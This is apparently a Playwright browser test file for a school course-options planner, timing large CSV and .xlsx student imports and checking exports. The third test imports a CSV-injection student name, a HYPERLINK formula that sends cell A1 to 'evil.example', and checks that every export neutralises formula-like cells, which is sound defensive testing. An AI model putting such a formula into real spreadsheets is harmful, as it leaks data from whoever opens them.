/**
 * Data in and out (issue 6) in a real browser, against the built planner (io-run.ts serves it):
 * - a 5,000-student Microsoft Forms export in Windows-1252, with the problems real exports have, imported
 *   through the Students screen's wizard: timed in the page (machine time only, not the user's clicks)
 *   and watched for main-thread stalls, every unreadable row listed with row, column and reason, and the
 *   mapping remembered for the next import;
 * - a 5,000-student SIMS-style .xlsx report (title rows above the header, extra columns) and a UTF-8
 *   file with a byte-order mark;
 * - every CSV and .xlsx export downloaded after importing students with formula-looking names and
 *   solving: class lists checked against the result document, and no text cell anywhere that a
 *   spreadsheet would run as a formula;
 * - the blank templates downloaded from the app are the files in data/templates/.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Download, Page } from 'playwright-core';
import Papa from 'papaparse';
import { readSheet } from 'read-excel-file/universal';
import readXlsxFile from 'read-excel-file/universal';
import type { Result, Scenario } from '../../solver/types';
import { guessStudentMapping, importStudents, readTable, toXlsx } from '../../data/io';
import { readScenarioFile } from '../../data/load';
import { acceptAllSuggestions } from '../../web/io/wizard-logic';
import type { Ctx } from './planner.spec';

const ROOT = resolve(import.meta.dirname, '../..');
const FIXTURES = join(ROOT, 'test/fixtures/io');
const SAMPLE = JSON.parse(readFileSync(join(ROOT, 'data/samples/sample-240.json'), 'utf8')) as Scenario;

/** The import of 5,000 students must take less than this in the browser (issue 6). */
const IMPORT_BUDGET_MS = 2000;
/** A main-thread stall longer than this is a freeze a user notices (clicks and typing stop answering). */
const FREEZE_MS = 1000;

// ------------------------------------------------------------------------------------------------
// Realistic files, made here from a seeded generator so the expected students and problems are known.

/** A small seeded generator (mulberry32), so the files are the same on every run. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** How students typed each course into the form: exact names, ids, case slips, abbreviations, misspellings. */
const TYPED: Record<string, string[]> = {
  HIS: ['History', 'History', 'HIS', 'history', 'GCSE History'],
  GEO: ['Geography', 'Geography', 'Geog'],
  FRE: ['French', 'french'],
  SPA: ['Spanish', 'Spansh'],
  CSC: ['Computer Science', 'Comp Sci', 'computer science'],
  ART: ['Art and Design', 'Art & Design'],
  DT: ['Design and Technology', 'D&T'],
  PE: ['Physical Education', 'PE'],
  TSC: ['Triple Science (Biology, Chemistry, Physics)', 'TSC'],
  BUS: ['Business', 'Business'],
  DRA: ['Drama'],
  MUS: ['Music'],
  RST: ['Religious Studies'],
  MED: ['Media Studies'],
  FOO: ['Food Preparation and Nutrition'],
};
const FIRST = ['Amara', 'Ben', 'Chloë', 'Dev', 'Siân', 'José', 'Zoë', 'Renée', 'Oisín', 'Ffion', 'Kai', 'Mia', 'Noah', 'Aarav', 'Isla', 'Siobhán'];
const LAST = ['Okafor', 'Hughes', 'O’Brien', 'García', 'Müller', 'Nguyen', 'Patel', 'Smith', 'Jones', 'Brontë', 'Kowalski', 'Ahmed'];
export const CHOICES_QUESTION = 'Which courses would you like to study? Put them in order, most wanted first.';
const FORMS_HEADERS = ['ID', 'Start time', 'Completion time', 'Email', 'Name', 'Student ID', 'Tutor group', CHOICES_QUESTION, 'Reserve choice'];

export interface Cohort {
  /** Per data row: id, name, tutor group, the course ids chosen (in order), the reserve. */
  rows: { id: string; first: string; last: string; tutor: string; choices: string[]; typed: string[]; reserve: string; reserveTyped: string }[];
}

export function makeCohort(n: number, seed = 6): Cohort {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)];
  const ids = Object.keys(TYPED);
  const rows: Cohort['rows'] = [];
  for (let i = 0; i < n; i++) {
    const pool = [...ids];
    const chosen: string[] = [];
    for (let k = 0; k < 5; k++) chosen.push(pool.splice(Math.floor(r() * pool.length), 1)[0]);
    rows.push({
      id: `W${String(i + 1).padStart(5, '0')}`,
      first: pick(FIRST),
      last: pick(LAST),
      tutor: `9${'ABCDEFGH'[i % 8]}`,
      choices: chosen.slice(0, 4),
      typed: chosen.slice(0, 4).map((c) => pick(TYPED[c])),
      reserve: chosen[4],
      reserveTyped: pick(TYPED[chosen[4]]),
    });
  }
  return { rows };
}

/** Windows-1252 bytes of text, as Excel's plain "CSV (Comma delimited)" writes on a UK machine. */
function windows1252(text: string): Uint8Array {
  const high: Record<string, number> = { '€': 0x80, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97 };
  const out = new Uint8Array(text.length);
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c < 0x80 || (c >= 0xa0 && c <= 0xff)) out[i] = c;
    else if (high[text[i]] !== undefined) out[i] = high[text[i]];
    else throw new Error(`${text[i]} has no Windows-1252 byte`);
  }
  return out;
}

function csvCell(v: string): string {
  return /[",;\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

/**
 * Spreadsheet rows (header is row 1) where the Forms export has a problem, and the problem the planner
 * must list for it: [row, column shown, reason pattern].
 */
export const FORMS_PROBLEMS: [number, string, RegExp][] = [
  [101, 'Student ID', /no student id/],
  [201, 'Student ID', /also on row 202/],
  [202, 'Student ID', /also on row 201/],
  [303, 'Name', /double quote/],
  [404, CHOICES_QUESTION, /"Astronomy" is not a course/],
  [505, CHOICES_QUESTION, /has no choices/],
  [606, '(whole row)', /to the right of the last header/],
];

/** A Microsoft Forms export of the cohort (one multi-select column of choices, answers ending in ";"), with the problems above. */
export function formsExport(cohort: Cohort): Uint8Array {
  const lines = [FORMS_HEADERS.map(csvCell).join(',')];
  cohort.rows.forEach((s, i) => {
    const row = i + 2;
    const email = `${s.first}.${s.last}@school.example`.toLowerCase().replace(/[^a-z.@]/g, '');
    let id = s.id;
    let name = csvCell(`${s.first} ${s.last}`);
    let choices = csvCell(`${s.typed.join(';')};`);
    let reserve = csvCell(s.reserveTyped);
    let extra = '';
    if (row === 101) id = '';
    if (row === 202) id = cohort.rows[i - 1].id;
    if (row === 303) name = `"Sam Smith`; // a stray quote typed into the name: must not swallow the rows after it
    if (row === 404) choices = csvCell(`${s.typed.slice(0, 3).join(';')};Astronomy;`);
    if (row === 505) {
      choices = '';
      reserve = '';
    }
    if (row === 606) extra = ',see me';
    lines.push([String(i + 1), '3/1/27 9:02:11', '3/1/27 9:05:40', email, name, id, s.tutor, choices, reserve].join(',') + extra);
  });
  return windows1252(lines.join('\r\n') + '\r\n');
}

/** A SIMS-style options report as .xlsx: two title rows above the header, admission numbers, extra columns. */
export async function simsWorkbook(cohort: Cohort): Promise<Uint8Array> {
  const header = ['Adno', 'UPN', 'Legal Surname', 'Legal Forename', 'Reg', 'Gender', 'PP', 'Option 1', 'Option 2', 'Option 3', 'Option 4', 'Reserve 1', 'Address 1', 'Postcode'];
  const rows: (string | number | null)[][] = [['Year 9 Options Choices Report'], ['Printed 03/03/2027 by SIMS Options'], header];
  cohort.rows.forEach((s, i) =>
    rows.push([s.id, `A${String(100000000000 + i)}`, s.last, s.first, s.tutor, i % 2 ? 'F' : 'M', i % 5 === 0 ? 'Y' : 'N', ...s.choices, s.reserve, `${i + 1} High Street, Leeds`, 'LS1 4AB']),
  );
  return toXlsx([{ name: 'Options', rows }]);
}

// ------------------------------------------------------------------------------------------------
// Page helpers

async function settled(page: Page, timeout = 60_000): Promise<void> {
  await page.getByRole('button', { name: 'Solve', exact: true }).waitFor({ timeout });
  await page.locator('[data-testid=figures]').first().waitFor({ timeout });
  await page.waitForFunction(() => !document.body.textContent?.includes('Re-seating students'), null, { timeout });
}

async function go(page: Page, label: string): Promise<void> {
  await page.getByRole('navigation', { name: 'Screens' }).getByRole('link', { name: label, exact: true }).click();
  await page.locator('main h2').first().waitFor();
}

/** Opens the planner on the sample (solved on the first visit) and waits until the solve is over, so timings are not shared with it. */
async function openSettled(c: Ctx): Promise<void> {
  await c.page.goto(`${c.url}#/blocks`);
  await c.page.locator('main h2').first().waitFor();
  await settled(c.page);
}

/**
 * A probe in the page: a 10 ms heartbeat whose longest gap is the longest main-thread stall, and the
 * time of the user's last click or file choice (captured before the app sees it).
 */
async function installProbe(page: Page): Promise<void> {
  // tsx compiles this file keeping function names, which wraps named functions in a __name helper the
  // page does not have; give the page a no-op one (a string, so it is not compiled itself).
  await page.evaluate('globalThis.__name ??= (f) => f');
  await page.evaluate(() => {
    const w = window as unknown as { __io?: { last: number; maxGap: number; actAt: number; seenAt: number } };
    if (w.__io) return;
    const probe = { last: performance.now(), maxGap: 0, actAt: 0, seenAt: 0 };
    setInterval(() => {
      const now = performance.now();
      probe.maxGap = Math.max(probe.maxGap, now - probe.last);
      probe.last = now;
    }, 10);
    const act = () => {
      if (probe.actAt === 0) probe.actAt = performance.now();
    };
    document.addEventListener('click', act, true);
    document.addEventListener('change', act, true);
    w.__io = probe;
  });
}

/**
 * Times one user action in the page: from the click or file choice (in the page's clock) until the
 * element `selector` shows `text` (or, with selector 'button:enabled', until a button reading exactly
 * `text` is enabled), checked every animation frame; and the longest main-thread stall meanwhile.
 * `act` performs the action from the test side.
 */
async function timed(page: Page, act: () => Promise<void>, selector: string, text: string): Promise<{ ms: number; stall: number }> {
  await page.evaluate(
    ({ selector, text }) => {
      const holds = () =>
        selector === 'button:enabled'
          ? [...document.querySelectorAll('button')].some((b) => b.textContent?.trim() === text && !b.disabled)
          : Boolean(document.querySelector(selector)?.textContent?.includes(text));
      const probe = (window as unknown as { __io: { last: number; maxGap: number; actAt: number; seenAt: number } }).__io;
      probe.actAt = 0;
      probe.seenAt = 0;
      probe.maxGap = 0;
      probe.last = performance.now();
      const check = () => {
        if (probe.actAt > 0 && holds()) probe.seenAt = performance.now();
        else requestAnimationFrame(check);
      };
      requestAnimationFrame(check);
    },
    { selector, text },
  );
  await act();
  await page.waitForFunction(() => (window as unknown as { __io: { seenAt: number } }).__io.seenAt > 0, null, { timeout: 60_000 });
  return page.evaluate(() => {
    const p = (window as unknown as { __io: { maxGap: number; actAt: number; seenAt: number } }).__io;
    return { ms: p.seenAt - p.actAt, stall: p.maxGap };
  });
}

async function download(page: Page, click: () => Promise<void>): Promise<{ name: string; bytes: Uint8Array }> {
  const [d] = (await Promise.all([page.waitForEvent('download', { timeout: 30_000 }), click()])) as [Download, void];
  const path = await d.path();
  return { name: d.suggestedFilename(), bytes: new Uint8Array(readFileSync(path)) };
}

const WIZARD = '.ks4-io-wizard';

async function openWizard(page: Page, mode: 'replace' | 'update'): Promise<void> {
  await page.getByRole('button', { name: 'Import students from a spreadsheet or CSV…' }).click();
  await page.locator(WIZARD).waitFor();
  await page.getByLabel(mode === 'replace' ? 'replace the whole cohort' : /update and add to the/).check();
}

async function chooseFile(page: Page, name: string, bytes: Uint8Array): Promise<void> {
  await page.locator(`${WIZARD} input[type=file]`).setInputFiles({ name, mimeType: name.endsWith('.xlsx') ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' : 'text/csv', buffer: Buffer.from(bytes) });
}

/** The problems table as [row, column, reason] triples. */
async function problemRows(page: Page): Promise<[number, string, string][]> {
  return page.locator(`${WIZARD} table.ks4-io-table tbody tr`).evaluateAll((trs) =>
    trs.map((tr) => {
      const td = tr.querySelectorAll('td');
      return [Number(td[0].textContent), td[1].textContent ?? '', td[3].textContent ?? ''] as [number, string, string];
    }),
  );
}

/**
 * The text of a student's row header, found as a user finds one among thousands: through the search
 * box (the Students screen draws one page of rows at a time). The search is cleared afterwards.
 */
async function studentRowText(page: Page, id: string): Promise<string> {
  const search = page.getByRole('search', { name: 'Filter students' }).getByLabel('Search');
  await search.fill(id);
  const th = page.locator(`tr[data-student="${id}"] th`);
  await th.waitFor();
  const text = (await th.textContent()) ?? '';
  await search.fill('');
  return text;
}

function ms(x: number): string {
  return `${Math.round(x)} ms`;
}

/** True when a spreadsheet would read the text of a cell as a formula. Plain numbers (-3, +44) are values, not formulas. */
function dangerous(text: string): boolean {
  return /^[=+\-@\t\r]/.test(text) && !/^[-+]?\d+(\.\d+)?$/.test(text);
}

// ------------------------------------------------------------------------------------------------

export const tests: { name: string; run: (c: Ctx) => Promise<void> }[] = [
  {
    name: 'imports a 5,000-student Forms export (Windows-1252) through the Students screen in under 2 s, without freezing, listing every unreadable row',
    async run(c) {
      const { page } = c;
      const cohort = makeCohort(5000);
      const file = formsExport(cohort);
      // The same bytes read in Node give the problems the page must show (the page and the command line share data/io).
      const nodeTable = await readTable(file, 'forms.csv');
      assert.equal(nodeTable.encoding, 'windows-1252');
      assert.equal(nodeTable.rows.length, 5000, 'no row lost to the stray quote');

      await openSettled(c);
      await go(page, 'Students');
      await openWizard(page, 'replace');
      await installProbe(page);

      // The blank template is linked from the wizard and is the committed file.
      const tpl = await download(page, () => page.getByRole('button', { name: 'Blank choices template (CSV)' }).click());
      assert.equal(tpl.name, 'choices-template.csv');
      assert.deepEqual(tpl.bytes, new Uint8Array(readFileSync(join(ROOT, 'data/templates/choices-template.csv'))));

      const timings: Record<string, { ms: number; stall: number }> = {};
      timings.read = await timed(page, () => chooseFile(page, 'Options 2027 (Responses).csv', file), WIZARD, 'rows under the header');
      const intro = (await page.locator(`${WIZARD} section p`).first().textContent()) ?? '';
      assert.match(intro, /5000 rows under the header on row 1, read as windows-1252/);
      // The user maps the one column the planner cannot guess: the Forms question holding every choice.
      // That reads all 5,000 rows through the mapping, and enables Next.
      assert.equal(await page.getByRole('button', { name: 'Next: course names' }).isDisabled(), true);
      timings.mapping = await timed(page, () => page.getByLabel('or one column listing every choice').selectOption(CHOICES_QUESTION).then(() => undefined), 'button:enabled', 'Next: course names');
      timings.courses = await timed(page, () => page.getByRole('button', { name: 'Next: course names' }).click(), WIZARD, 'match no course exactly');
      const unmatchedBefore = (await page.locator(`${WIZARD} section > p`).first().textContent()) ?? '';
      timings.accept = await timed(page, () => page.getByRole('button', { name: 'Accept every suggestion' }).click(), `${WIZARD} section > p`, '1 course name in the file');
      // Every near miss was answered by its suggestion; Astronomy has none and stays open (the row decides).
      assert.equal(await page.getByLabel('Course for Astronomy').inputValue(), '?');
      assert.equal(await page.getByLabel('Course for Geog').inputValue(), 'GEO');
      assert.equal(await page.getByLabel('Course for Spansh').inputValue(), 'SPA');
      timings.problems = await timed(page, () => page.getByRole('button', { name: 'Next: rows to check' }).click(), WIZARD, 'could not be read as they stand');

      await page.locator(`${WIZARD} table.ks4-io-table`).scrollIntoViewIfNeeded();
      await page.screenshot({ path: join(c.shots, 'io-import-problems.png') });
      // Every unreadable row is listed with its row, column and reason, and nothing else is.
      const listed = await problemRows(page);
      assert.deepEqual(
        listed.map(([row, column]) => [row, column]),
        FORMS_PROBLEMS.map(([row, column]) => [row, column]),
        `problems listed: ${JSON.stringify(listed)}`,
      );
      for (const [row, , reason] of FORMS_PROBLEMS) {
        const shown = listed.find((l) => l[0] === row)!;
        assert.match(shown[2], reason, `row ${row}`);
        assert.match(shown[2], new RegExp(`^Row ${row}\\b`), `the reason names row ${row}`);
      }
      // The same rows Node finds.
      const nodeMapping = { ...guessStudentMapping(nodeTable.headers), choicesList: CHOICES_QUESTION };
      const nodeFirst = importStudents(nodeTable, nodeMapping, { courses: SAMPLE.courses });
      const nodeIssues = importStudents(nodeTable, nodeMapping, { courses: SAMPLE.courses }, { courseAliases: acceptAllSuggestions(nodeFirst, {}) }).issues;
      assert.deepEqual([...new Set(nodeIssues.map((i) => i.row))], FORMS_PROBLEMS.map(([r]) => r));

      // The user decides: keep what can be kept, give row 101 an id, skip the second submission (row 202).
      await page.getByRole('button', { name: /^Keep 4 rows without/ }).click();
      await page.locator('input[name="row-101"]').first().check();
      await page.getByLabel('Student id for row 101').fill('W-NEW-101');
      await page.locator('input[name="row-202"]').nth(1).check();
      timings.finish = await timed(page, () => page.getByRole('button', { name: 'Next', exact: true }).click(), 'button:enabled', 'Add 4999 students');
      const finish = (await page.locator(`${WIZARD} section p`).first().textContent()) ?? '';
      assert.match(finish, /4999 students ready from 5000 rows; 1 skipped \(rows 202\)/);
      await page.screenshot({ path: join(c.shots, 'io-import-finish.png') });
      // The import proper: reading, mapping, matching and listing, up to the students ready to add.
      const importMs = ['read', 'mapping', 'courses', 'accept', 'problems', 'finish'].reduce((sum, k) => sum + timings[k].ms, 0);
      const importStall = Math.max(...['read', 'mapping', 'courses', 'accept', 'problems', 'finish'].map((k) => timings[k].stall));
      // Then the planner takes the students into the cohort and shows them on the Students screen.
      timings.add = await timed(page, () => page.getByRole('button', { name: 'Add 4999 students' }).click(), '[data-testid=student-count]', 'of 4999 students');
      console.log(
        `    5,000-student CSV import in Chromium: ${ms(importMs)} of machine time (read in the worker ${ms(timings.read.ms)}, ` +
          `choices column mapped ${ms(timings.mapping.ms)}, course names ${ms(timings.courses.ms)}, accept suggestions ${ms(timings.accept.ms)}, ` +
          `rows to check ${ms(timings.problems.ms)}, ready to add ${ms(timings.finish.ms)}); longest main-thread stall ${ms(importStall)} ` +
          `(while reading ${ms(timings.read.stall)}). Adding them to the cohort and showing the Students screen: ${ms(timings.add.ms)}, stall ${ms(timings.add.stall)}`,
      );
      assert.ok(unmatchedBefore.includes('match no course exactly'));
      assert.ok(importMs < IMPORT_BUDGET_MS, `the import took ${ms(importMs)} in the browser; the budget is ${IMPORT_BUDGET_MS} ms`);
      assert.ok(importStall < FREEZE_MS, `the page froze for ${ms(importStall)} during the import`);

      // Accents from Windows-1252 arrive intact, and the message says what happened.
      assert.match((await page.locator('[data-testid=message]').textContent()) ?? '', /Imported 4999 students from Options 2027 \(Responses\)\.csv: .*1 row skipped/);
      const w3 = cohort.rows[2];
      assert.match(await studentRowText(page, w3.id), new RegExp(`${w3.first} ${w3.last}`));
      const obrien = cohort.rows.find((s) => s.last === 'O’Brien')!;
      assert.match(await studentRowText(page, obrien.id), /O’Brien/);
      assert.match(await studentRowText(page, 'W-NEW-101'), /W-NEW-101/);
      await page.screenshot({ path: join(c.shots, 'io-imported-5000.png') });

      // The mapping and the answers about course names are remembered for the next import.
      await openWizard(page, 'update');
      await chooseFile(page, 'Options 2027 (Responses).csv', file);
      await page.getByRole('button', { name: 'Next: course names' }).waitFor();
      assert.equal(await page.getByLabel('or one column listing every choice').inputValue(), CHOICES_QUESTION);
      await page.getByRole('button', { name: 'Next: course names' }).click();
      assert.match((await page.locator(`${WIZARD} section > p`).first().textContent()) ?? '', /^1 course name in the file/);
      assert.equal(await page.getByLabel('Course for Geog').inputValue(), 'GEO');
      await page.getByRole('button', { name: 'Cancel' }).click();

      // Last, so that everything above is checked first: taking 5,000 students in must not freeze the
      // page either. The Students screen (web/screens/StudentsScreen.tsx) renders a table row for every
      // student at once, which is where this time goes; it needs windowing or paging to pass.
      assert.ok(
        timings.add.stall < FREEZE_MS,
        `after the import the page froze for ${ms(timings.add.stall)} (Add clicked to the Students screen showing 4999 students: ${ms(timings.add.ms)})`,
      );
    },
  },
  {
    name: 'imports a 5,000-student SIMS .xlsx report (title rows, extra columns) in under 2 s, and a UTF-8 file with a byte-order mark',
    async run(c) {
      const { page } = c;
      const cohort = makeCohort(5000, 7);
      const xlsx = await simsWorkbook(cohort);
      await openSettled(c);
      await go(page, 'Students');
      await openWizard(page, 'replace');
      await installProbe(page);
      const read = await timed(page, () => chooseFile(page, 'Y9 options.xlsx', xlsx), WIZARD, 'rows under the header');
      assert.match((await page.locator(`${WIZARD} section p`).first().textContent()) ?? '', /5000 rows under the header on row 3, sheet "Options"/);
      // SIMS headers are recognised without any column matching.
      assert.equal(await page.getByLabel('Student id').inputValue(), 'Adno');
      assert.equal(await page.getByLabel('or first name').inputValue(), 'Legal Forename');
      assert.equal(await page.locator('#ks4-io-choice-3').inputValue(), 'Option 4');
      const courses = await timed(page, () => page.getByRole('button', { name: 'Next: course names' }).click(), WIZARD, 'Every course name in the file matches a course');
      const problems = await timed(page, () => page.getByRole('button', { name: 'Next: rows to check' }).click(), WIZARD, 'Every row was read');
      const finish = await timed(page, () => page.getByRole('button', { name: 'Next', exact: true }).click(), 'button:enabled', 'Add 5000 students');
      const add = await timed(page, () => page.getByRole('button', { name: 'Add 5000 students' }).click(), '[data-testid=student-count]', 'of 5000 students');
      const total = read.ms + courses.ms + problems.ms + finish.ms;
      const stall = Math.max(read.stall, courses.stall, problems.stall, finish.stall);
      console.log(
        `    5,000-student .xlsx import in Chromium: ${ms(total)} (read in the worker ${ms(read.ms)}, course names ${ms(courses.ms)}, ` +
          `rows to check ${ms(problems.ms)}, ready to add ${ms(finish.ms)}); longest main-thread stall ${ms(stall)} (while reading ${ms(read.stall)}). ` +
          `Adding them and showing the Students screen: ${ms(add.ms)}, stall ${ms(add.stall)}`,
      );
      assert.ok(total < IMPORT_BUDGET_MS, `the .xlsx import took ${ms(total)}; the budget is ${IMPORT_BUDGET_MS} ms`);
      assert.ok(stall < FREEZE_MS, `the page froze for ${ms(stall)} during the .xlsx import`);
      const s = cohort.rows[4999];
      assert.match(await studentRowText(page, s.id), new RegExp(`${s.first} ${s.last}`));

      // A UTF-8 file with a byte-order mark (Excel's "CSV UTF-8"), semicolon-separated, choices in one column.
      await openWizard(page, 'update');
      await chooseFile(page, 'bom.csv', new Uint8Array(readFileSync(join(FIXTURES, 'bom.csv'))));
      await page.getByRole('button', { name: 'Next: course names' }).waitFor();
      assert.match((await page.locator(`${WIZARD} section p`).first().textContent()) ?? '', /read as utf-8-bom/);
      await page.getByRole('button', { name: 'Next: course names' }).click();
      if (await page.getByRole('button', { name: 'Accept every suggestion' }).isEnabled()) await page.getByRole('button', { name: 'Accept every suggestion' }).click();
      await page.getByRole('button', { name: 'Next: rows to check' }).click();
      const keepAll = page.getByRole('button', { name: /^Keep \d+ rows? without/ });
      if ((await keepAll.count()) && (await keepAll.isEnabled())) await keepAll.click();
      const skip = page.getByRole('button', { name: 'Skip every undecided row' });
      if (await skip.count()) await skip.click();
      await page.getByRole('button', { name: 'Next', exact: true }).click();
      await page.getByRole('button', { name: /^Add \d+ students$/ }).click();
      assert.match(await studentRowText(page, 'B01'), /Zoë Brontë/);
      assert.match(await studentRowText(page, 'B03'), /Łukasz Wiśniewski/);
    },
  },
  {
    name: 'exports class lists and every other CSV and .xlsx after importing formula-looking names: right content, nothing a spreadsheet would run',
    async run(c) {
      const { page } = c;
      await openSettled(c);
      await go(page, 'Students');
      await openWizard(page, 'update');
      await chooseFile(page, 'formula-names.csv', new Uint8Array(readFileSync(join(FIXTURES, 'formula-names.csv'))));
      await page.getByRole('button', { name: 'Next: course names' }).waitFor();
      await page.getByRole('button', { name: 'Next: course names' }).click();
      await page.getByRole('button', { name: 'Next: rows to check' }).click();
      const keep = page.getByRole('button', { name: /^Keep \d+ rows? without/ });
      if (await keep.count()) await keep.click();
      await page.getByRole('button', { name: 'Next', exact: true }).click();
      await page.getByRole('button', { name: /^Add \d+ students$/ }).click();
      assert.match(await studentRowText(page, 'F01'), /^=HYPERLINK/, 'the name is shown as typed, as text');

      await go(page, 'Blocks');
      await page.getByLabel('Time limit').selectOption('5');
      await page.getByRole('button', { name: 'Solve', exact: true }).click();
      await page.waitForFunction(() => document.querySelector('[data-testid=message]')?.textContent?.startsWith('Solved'), null, { timeout: 60_000 });
      await settled(page);
      await go(page, 'Results');
      await page.getByRole('button', { name: /^Class lists, blocking grid/ }).click();
      const panel = page.getByRole('group', { name: 'Export', exact: true });
      await panel.waitFor();

      // The result document, to check the class lists against.
      const res = await download(page, () => panel.locator('[data-export=result-json]').click());
      const result = JSON.parse(new TextDecoder().decode(res.bytes)) as Result;
      const F01 = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
      assert.ok(result.students.some((s) => s.id === 'F01'), 'the imported students are in the result');
      // The scenario and result documents load in the command line, and the independent checker passes them.
      const scen = await download(page, () => panel.locator('[data-export=scenario-json]').click());
      const dir = mkdtempSync(join(tmpdir(), 'ks4-io-browser-'));
      writeFileSync(join(dir, 'scenario.json'), scen.bytes);
      writeFileSync(join(dir, 'result.json'), res.bytes);
      const loaded = readScenarioFile(join(dir, 'scenario.json'));
      assert.ok(loaded.ok, 'the downloaded scenario loads in the command line');
      assert.equal(loaded.value.students.find((s) => s.id === 'F01')?.name, F01, 'JSON keeps the name exactly as typed');
      const check = spawnSync(join(ROOT, 'node_modules/.bin/tsx'), [join(ROOT, 'cli/ks4.ts'), 'check', join(dir, 'scenario.json'), join(dir, 'result.json')], { encoding: 'utf8' });
      assert.equal(check.status, 0, `the command-line checker: ${check.stdout}${check.stderr}`);

      // Class lists as CSV: a byte-order mark, the header, one row per student per group, names neutralised.
      const csv = await download(page, () => panel.locator('[data-export=class-lists-csv]').click());
      assert.match(csv.name, /-class-lists\.csv$/);
      assert.deepEqual([...csv.bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark, so Excel shows accents');
      const text = new TextDecoder().decode(csv.bytes.slice(3));
      assert.ok(text.includes('\r\n'), 'CRLF line ends');
      const parsed = Papa.parse<string[]>(text.trimEnd(), { header: false }).data;
      assert.deepEqual(parsed[0], ['Group', 'Course code', 'Course', 'Block(s)', 'Year(s)', 'Teacher', 'Room', 'UPN', 'Admission number', 'Surname', 'Forename', 'Reg group', 'Student ID', 'Chosen as']);
      const pairs = parsed.slice(1).map((r) => `${r[0]} ${r[12]}`).sort();
      const expected = result.groups.flatMap((g) => g.students.map((s) => `${g.id} ${s}`)).sort();
      assert.deepEqual(pairs, expected, 'every placed student once in each of their groups, nobody else');
      const f01Rows = parsed.filter((r) => r[12] === 'F01');
      assert.ok(f01Rows.length > 0);
      // The one Name column is split (last word the surname); the forename starts the formula, neutralised.
      for (const r of f01Rows) assert.equal(`${r[10]} ${r[9]}`, `'${F01}`, 'the formula-looking name is written with an apostrophe in front');

      // Class lists as .xlsx: "All groups" then a sheet per group, the same rows.
      const book = await download(page, () => panel.locator('[data-export=class-lists-xlsx]').click());
      const sheets = (await readXlsxFile(book.bytes.slice().buffer as ArrayBuffer)) as unknown as { sheet: string; data: unknown[][] }[];
      assert.equal(sheets[0].sheet, 'All groups');
      assert.deepEqual(sheets.slice(1).map((s) => s.sheet).sort(), result.groups.map((g) => g.id).sort());
      const all = sheets[0].data.map((r) => r.map((x) => (x === null ? '' : String(x))));
      assert.deepEqual(all, parsed.map((r) => r.map((x) => x)), 'the workbook and the CSV list the same rows');
      const g0 = result.groups.find((g) => g.students.includes('F01'))!;
      const g0Sheet = await readSheet(book.bytes.slice().buffer as ArrayBuffer, g0.id);
      assert.deepEqual(g0Sheet.slice(1).map((r) => String(r[12])).sort(), [...g0.students].sort());

      // Every CSV and .xlsx the planner writes: no text cell a spreadsheet would run as a formula.
      const ids = await panel.locator('[data-export]').evaluateAll((bs) => bs.map((b) => b.getAttribute('data-export')!).filter((id) => /-(csv|xlsx)$/.test(id)));
      assert.ok(ids.length >= 8, `exports found: ${ids.join(', ')}`);
      const report: string[] = [];
      for (const id of ids) {
        const f = await download(page, () => panel.locator(`[data-export="${id}"]`).click());
        let cells: string[];
        if (id.endsWith('-csv')) {
          cells = Papa.parse<string[]>(new TextDecoder().decode(f.bytes.slice(3)).trimEnd(), { header: false }).data.flat();
        } else {
          const wb = (await readXlsxFile(f.bytes.slice().buffer as ArrayBuffer)) as unknown as { data: unknown[][] }[];
          cells = wb.flatMap((s) => s.data.flat()).filter((x): x is string => typeof x === 'string');
        }
        const bad = cells.filter(dangerous);
        assert.deepEqual(bad, [], `${f.name} has cells a spreadsheet would run: ${bad.slice(0, 3).join(' | ')}`);
        const neutralised = cells.filter((x) => /^'[=+\-@]/.test(x)).length;
        report.push(`${id} ${cells.length} cells, ${neutralised} neutralised`);
        if (/students|placements/.test(id)) assert.ok(cells.includes(`'${F01}`), `${f.name} carries the neutralised name`);
        if (/class-lists|letters/.test(id)) assert.ok(cells.some((x) => x.startsWith(`'${F01.split(' ')[0]}`)), `${f.name} carries the neutralised name`);
      }
      console.log(`    exports checked: ${report.join('; ')}`);

      // The blank offer template downloads from the same panel and is the committed file.
      const tpl = await download(page, () => page.getByRole('button', { name: 'Blank offer (course list) template (CSV)' }).click());
      assert.deepEqual(tpl.bytes, new Uint8Array(readFileSync(join(ROOT, 'data/templates/offer-template.csv'))));
      await panel.scrollIntoViewIfNeeded();
      await page.screenshot({ path: join(c.shots, 'io-downloads.png') });
    },
  },
];
